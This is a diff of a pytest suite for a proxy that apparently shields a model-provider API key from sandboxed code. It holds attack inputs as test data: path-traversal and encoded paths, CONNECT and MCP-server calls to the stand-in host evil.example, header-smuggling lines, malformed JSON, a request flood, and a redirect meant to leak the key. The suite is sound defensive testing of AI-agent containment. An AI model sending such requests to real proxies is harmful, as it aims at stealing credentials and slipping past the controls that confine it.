@@ -2,22 +2,29 @@
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import subprocess
+from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
+
 from containment.conftest import Case
 from containment.prelude import asked, observe, spoken
 from containment.sandboxes import KEY, MODEL, Compose, Sandboxes, policy
 from pinwarden.adapters import engine
 from pinwarden.sandbox import Budget, Sandbox
-from support.provider import Answer, Provider, document
+from support.provider import Answer, Provider
 
 pytestmark = pytest.mark.engine
 
-GOOD = '{"model":"%s","max_tokens":10,"messages":[{"role":"user","content":"hello"}]}' % MODEL
+GOOD = json.dumps({"model": MODEL, "max_tokens": 10, "messages": [{"role": "user", "content": "hello"}]}, separators=(",", ":"))
+
+
+Calls = Sequence[tuple[str, str, str, Sequence[str]]]
+"""Method, target, body and more headers of each call."""
 
 
 def body(**more: str) -> str:
@@ -29,12 +36,14 @@ def content(block: str) -> str:
     return GOOD.replace('"hello"', f"[{block}]")
 
 
-def attack(calls: list[tuple[str, str, str, list[str]]], good: str) -> None:
+def attack(calls: Calls, good: str) -> None:
     """Make each call; a good one shows that the way is open at all."""
-    observe(statuses=[asked(text.encode("utf-8", "surrogatepass"), target, method, *headers) for method, target, text, headers in calls], good=asked(good.encode()))
+    observe(
+        statuses=[asked(text.encode("utf-8", "surrogatepass"), target, method, *headers) for method, target, text, headers in calls], good=asked(good.encode())
+    )
 
 
-def judge(sandboxes: Sandboxes, provider: Provider, case: Case, tmp_path: Path, calls: list[tuple[str, str, str, list[str]]], *, least_control: int = 1) -> None:
+def judge(sandboxes: Sandboxes, provider: Provider, case: Case, tmp_path: Path, calls: Calls, *, least_control: int = 1) -> None:
     """Each of `calls` is refused and never arrives; through the open proxy they arrive, with the key."""
     seen = sandboxes.attack(attack, given={"calls": calls, "good": GOOD}, proxy=True)
     arrived = provider.calls
@@ -51,21 +60,41 @@ def judge(sandboxes: Sandboxes, provider: Provider, case: Case, tmp_path: Path, 
 
 
 def test_19_endpoints_beyond_inference(sandboxes: Sandboxes, provider: Provider, tmp_path: Path, case: Case) -> None:
-    paths = ["/v1/files", "/v1/messages/batches", "/v1/models", "/v1/organizations/api_keys", "/v1/responses", "/v1/skills", "/v1/mcp_servers", "/anthropic/v1/messages", "/"]
-    calls = [(method, path, "", []) for path in paths for method in ("GET", "POST", "PUT", "DELETE")]
-    judge(sandboxes, provider, case, tmp_path, calls + [("GET", "/v1/messages", "", []), ("PUT", "/v1/messages", GOOD, [])])
+    paths = [
+        "/v1/files",
+        "/v1/messages/batches",
+        "/v1/models",
+        "/v1/organizations/api_keys",
+        "/v1/responses",
+        "/v1/skills",
+        "/v1/mcp_servers",
+        "/anthropic/v1/messages",
+        "/",
+    ]
+    calls: Calls = [(method, path, "", []) for path in paths for method in ("GET", "POST", "PUT", "DELETE")]
+    judge(sandboxes, provider, case, tmp_path, [*calls, ("GET", "/v1/messages", "", []), ("PUT", "/v1/messages", GOOD, [])])
 
 
 def test_20_tricks_with_the_path(sandboxes: Sandboxes, provider: Provider, tmp_path: Path, case: Case) -> None:
     targets = ["//v1/messages", "/v1/messages/..%2ffiles", "/v1/messages/../files", "/%2e%2e/v1/messages", "/v1/messages;x", "/v1/messages?beta=false", "/v1/messages?beta=true&x=1", "/v1/messages#x",
                "/v1/messages/", "/v1%2fmessages", "/V1/messages", "http://evil.example/v1/messages", "http://proxy/v1/files", "/v1/messages%00", "/v1/messages?", "*"]  # fmt: skip
-    calls = [("POST", target, GOOD, []) for target in targets] + [("CONNECT", "evil.example:443", "", [])]
+    calls: Calls = [("POST", target, GOOD, []) for target in targets] + [("CONNECT", "evil.example:443", "", [])]
     judge(sandboxes, provider, case, tmp_path, calls)
 
 
 def test_21_tools_that_run_at_the_provider(sandboxes: Sandboxes, provider: Provider, tmp_path: Path, case: Case) -> None:
-    kinds = ["web_search_20250305", "web_fetch_20250910", "code_execution_20250825", "computer_20250124", "mcp_toolset", "tool_search_tool_regex_20251119", "bash_20250124", "advisor_20260301", "unheard_of"]
-    bodies = [body(tools='[{"type":"%s","name":"x"}]' % kind) for kind in kinds]
+    kinds = [
+        "web_search_20250305",
+        "web_fetch_20250910",
+        "code_execution_20250825",
+        "computer_20250124",
+        "mcp_toolset",
+        "tool_search_tool_regex_20251119",
+        "bash_20250124",
+        "advisor_20260301",
+        "unheard_of",
+    ]
+    bodies = [body(tools=f'[{{"type":"{kind}","name":"x"}}]') for kind in kinds]
     bodies += [body(mcp_servers='[{"type":"url","url":"https://evil.example","name":"x"}]'), body(container='"x"'), body(background="true"), body(store="true"), body(service_tier='"auto"'), body(fallbacks="[]")]  # fmt: skip
     judge(sandboxes, provider, case, tmp_path, [("POST", "/v1/messages", text, []) for text in bodies])
 
@@ -81,17 +110,32 @@ def test_22_sources_that_the_provider_would_fetch(sandboxes: Sandboxes, provider
 def test_23_models_and_strict_json(sandboxes: Sandboxes, provider: Provider, tmp_path: Path, case: Case) -> None:
     bodies = [GOOD.replace(MODEL, "claude-other"), GOOD.replace(f'"model":"{MODEL}",', ""), GOOD.replace(f'"{MODEL}"', f'["{MODEL}"]'), body(model='"claude-other"'), GOOD[:-1] + ',"mod\\u0065l":"claude-other"}',
               GOOD + "x", GOOD + GOOD, body(metadata="[" * 5000 + "]" * 5000), body(max_tokens="NaN"), "", "[]", '"x"', content('{"type":"text","text":"\\ud800"}'), "\ufeff" + GOOD]  # fmt: skip
-    calls: list[tuple[str, str, str, list[str]]] = [("POST", "/v1/messages", text, []) for text in bodies]
+    calls: Calls = [("POST", "/v1/messages", text, []) for text in bodies]
     judge(sandboxes, provider, case, tmp_path, [*calls, ("POST", "/v1/messages", GOOD, ["Content-Encoding: gzip"])])
 
 
 def test_24_headers_of_the_client(sandboxes: Sandboxes, provider: Provider, tmp_path: Path, case: Case) -> None:
     def attack(good: str) -> None:
-        own = ["X-Api-Key: " + os.environ["PINWARDEN_CLIENT_TOKEN"], "Anthropic-Beta: mcp-client-2025-04-04,files-api-2025-04-14", "OpenAI-Organization: evil", "Cookie: a=b", "X-Forwarded-Host: evil.example", "Anthropic-Dangerous: yes"]
+        own = [
+            "X-Api-Key: " + os.environ["PINWARDEN_CLIENT_TOKEN"],
+            "Anthropic-Beta: mcp-client-2025-04-04,files-api-2025-04-14",
+            "OpenAI-Organization: evil",
+            "Cookie: a=b",
+            "X-Forwarded-Host: evil.example",
+            "Anthropic-Dangerous: yes",
+        ]
         passed = asked(good.encode(), "/v1/messages", "POST", *own)
         refused = [
             asked(good.encode(), "/v1/messages", "POST", header)
-            for header in ("Upgrade: websocket", "X-Api-Key: sk-ant-of-the-attacker", "Expect: 100-continue", "Transfer-Encoding: chunked", "Content-Length: 3", "Bad Header: x", "A: b\r\n folded: c")
+            for header in (
+                "Upgrade: websocket",
+                "X-Api-Key: sk-ant-of-the-attacker",
+                "Expect: 100-continue",
+                "Transfer-Encoding: chunked",
+                "Content-Length: 3",
+                "Bad Header: x",
+                "A: b\r\n folded: c",
+            )
         ]
         hop = asked(good.encode(), "/v1/messages", "POST", "Connection: x-api-key, authorization")
         observe(passed=passed, refused=refused, hop=hop)
@@ -100,7 +144,19 @@ def test_24_headers_of_the_client(sandboxes: Sandboxes, provider: Provider, tmp_
     arrived = provider.calls
     provider.reset()
     sandboxes.attack(attack, given={"good": GOOD}, proxy=True, without=policy(tmp_path))
-    ours = {"host", "x-api-key", "anthropic-version", "anthropic-beta", "content-type", "content-length", "accept", "accept-encoding", "user-agent", "transfer-encoding", "connection"}
+    ours = {
+        "host",
+        "x-api-key",
+        "anthropic-version",
+        "anthropic-beta",
+        "content-type",
+        "content-length",
+        "accept",
+        "accept-encoding",
+        "user-agent",
+        "transfer-encoding",
+        "connection",
+    }
     leaked = [sorted(set(call.headers) - ours) for call in arrived]
     case.judge(
         attempted=seen.observed.get("passed") == 200,
@@ -138,7 +194,11 @@ def test_26_budget(sandboxes: Sandboxes, provider: Provider, tmp_path: Path, cas
         with ThreadPoolExecutor(50) as pool:
             statuses = list(pool.map(lambda _: asked(good.encode()), range(times)))
         huge = asked(good.replace('"hello"', '"' + "x" * large + '"').encode())
-        observe(statuses={str(status): statuses.count(status) for status in set(statuses)}, huge=huge, greedy=asked(good.replace('"max_tokens":10', '"max_tokens":9999999').encode()))
+        observe(
+            statuses={str(status): statuses.count(status) for status in set(statuses)},
+            huge=huge,
+            greedy=asked(good.replace('"max_tokens":10', '"max_tokens":9999999').encode()),
+        )
 
     seen = sandboxes.attack(attack, given={"times": 1000, "good": GOOD, "large": 12 * 1024**2}, proxy=True, budget=Budget(requests=20))
     arrived = len(provider.calls)
@@ -169,7 +229,7 @@ def test_27_redirects_and_echoes_of_the_key(sandboxes: Sandboxes, provider: Prov
     def script() -> None:
         provider.answer(
             Answer(302, {"Location": "http://evil.example/"}, [b"go"]),
-            document({"echo": KEY}, **{"request-id": KEY, "X-Echo": KEY}),
+            Answer(200, {"Content-Type": "application/json", "request-id": KEY, "X-Echo": KEY}, [json.dumps({"echo": KEY}).encode()]),
             Answer(200, {"Content-Type": "text/event-stream"}, [b"data: " + KEY[:10].encode(), KEY[10:].encode() + b"\n\n"]),
         )
 
@@ -181,7 +241,9 @@ def test_27_redirects_and_echoes_of_the_key(sandboxes: Sandboxes, provider: Prov
     case.judge(
         attempted=len(seen.observed.get("answers", [])) == 3,
         observed=str([answer[:60] for answer in seen.observed["answers"]]),
-        contained=arrived == 3 and not any(KEY in answer or "evil.example" in answer for answer in seen.observed["answers"]) and not seen.observed["answers"][0].startswith("HTTP/1.1 3"),
+        contained=arrived == 3
+        and not any(KEY in answer or "evil.example" in answer for answer in seen.observed["answers"])
+        and not seen.observed["answers"][0].startswith("HTTP/1.1 3"),
         control="through an open proxy redirect and key come back",
         harmed="evil.example" in control.observed["answers"][0] and KEY in control.observed["answers"][1],
     )
